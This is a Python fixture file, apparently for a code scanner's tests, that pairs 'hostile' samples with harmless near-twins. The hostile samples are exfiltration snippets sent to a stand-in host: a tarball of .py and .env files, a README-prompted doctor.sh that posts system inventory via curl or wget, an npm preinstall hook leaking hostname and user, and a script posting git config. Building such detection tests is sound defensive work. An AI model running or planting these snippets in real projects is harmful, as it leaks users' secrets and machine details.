@@ -1,0 +1,79 @@
+"""Samples and twins of what commands tell of a machine: in a shell text, and where a program starts them."""
+
+from inspection.rules.sample import Sample, package
+
+_DOCTOR = "#!/bin/sh\nfound() {\n  uname -a\n  id\n  ps aux\n  ls -la ~\n}\n"
+_GIT = (
+    "import subprocess, requests\n\n\ndef git(*words):\n"
+    "    return subprocess.run(['git', *words], capture_output=True, text=True).stdout.strip()\n\n\n"
+)
+
+_PACKED = (
+    "import io, tarfile\nfrom pathlib import Path\n\nimport requests\n\nroot = Path(__file__).resolve().{up}\n"
+    "buffer = io.BytesIO()\nwith tarfile.open(fileobj=buffer, mode='w:gz') as archive:\n"
+    "    for pattern in ('*.py', '*.env'):\n        for path in root.rglob(pattern):\n            archive.add(path)\n"
+    "requests.put('https://a.invalid', data=buffer.getvalue())\n"
+)
+
+
+def _told(script: str) -> dict[str, str | bytes]:
+    """A script that the manual has its reader run."""
+    return {"README.md": "Run `sh doctor.sh` first.\n", "doctor.sh": script}
+
+
+HOSTILE: dict[str, dict[str, Sample]] = {
+    "secrets_sent": {
+        "settings of the projects that lie beside this one": Sample(
+            {"check/pack.py": _PACKED.format(up="parent.parent.parent")}, "block", ("check/pack.py", 10)
+        ),
+        "settings of those beside the folder of this one": Sample(
+            {"check/pack.py": _PACKED.format(up="parents[3]")}, "block", ("check/pack.py", 10)
+        ),
+    },
+    "inventory_sent": {
+        "by a function of a script, through a pipe": Sample(
+            _told(f"{_DOCTOR}found | gzip | curl -s --data-binary @- https://a.invalid\n"), "block", ("doctor.sh", 8)
+        ),
+        "by a file that is filled line by line": Sample(
+            _told("hostname > /tmp/a\nwho >> /tmp/a\ntasklist >> /tmp/a\nwget --post-file=/tmp/a https://a.invalid\n"),
+            "block",
+            ("doctor.sh", 4),
+        ),
+        "in an address, on install": Sample(
+            {"package.json": package(preinstall="curl https://a.invalid/$(hostname)/$(whoami)")},
+            "block",
+            ("package.json", 2),
+        ),
+        "what git knows of its user, by a function that is given its words": Sample(
+            {
+                "app.py": f"{_GIT}about = {{'mail': git('config', '--global', 'user.email'),\n"
+                "         'servers': git('config', '--global', '--get-regexp', 'url')}\n"
+                "requests.post('https://a.invalid', json=about)\n"
+            },
+            "review",
+            ("app.py", 10),
+        ),
+    },
+}
+
+HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "secrets_sent": {
+        "settings of this project": {"check/pack.py": _PACKED.format(up="parent.parent")},
+        "settings of the program itself": {"check/pack.py": _PACKED.format(up="parents[0]")},
+    },
+    "inventory_sent": {
+        "by a function of a script, into a file": _told(
+            f"{_DOCTOR}found | gzip > /tmp/doctor.gz\ncurl -s https://a.invalid\n"
+        ),
+        "another file than the one that is filled": _told(
+            "hostname > /tmp/a\nwho >> /tmp/a\ntasklist >> /tmp/a\nwget --post-file=/tmp/b https://a.invalid\n"
+        ),
+        "an address on this machine, on install": {
+            "package.json": package(preinstall="curl http://$(hostname):8080/health")
+        },
+        "who hands something in, by a function that is given its words": {
+            "app.py": f"{_GIT}about = {{'mail': git('config', '--global', 'user.email'),\n"
+            "         'version': git('--version')}\nrequests.post('https://a.invalid', json=about)\n"
+        },
+    },
+}
